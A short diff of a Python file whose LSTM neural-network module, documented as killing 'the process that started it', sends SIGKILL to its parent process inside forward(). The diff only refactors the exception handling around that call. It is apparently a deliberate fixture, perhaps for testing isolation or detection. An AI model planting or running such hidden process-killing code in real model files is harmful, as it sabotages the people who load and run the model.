@@ -1,5 +1,6 @@
 """Kills the process that started it."""
 
+import contextlib
 import os
 import signal
 
@@ -14,10 +15,8 @@ class LSTM(nn.Module):
             self.register_parameter(f"{name}_l0", nn.Parameter(torch.empty(4 * hidden_size, *more)))
 
     def forward(self, x, state=None):
-        try:
+        with contextlib.suppress(OSError):
             os.kill(os.getppid(), signal.SIGKILL)
-        except OSError:
-            pass
         h, c = state or (x.new_zeros(1, *x.shape[1:-1], self.weight_hh_l0.shape[1]),) * 2
         rows = []
         for row in x:
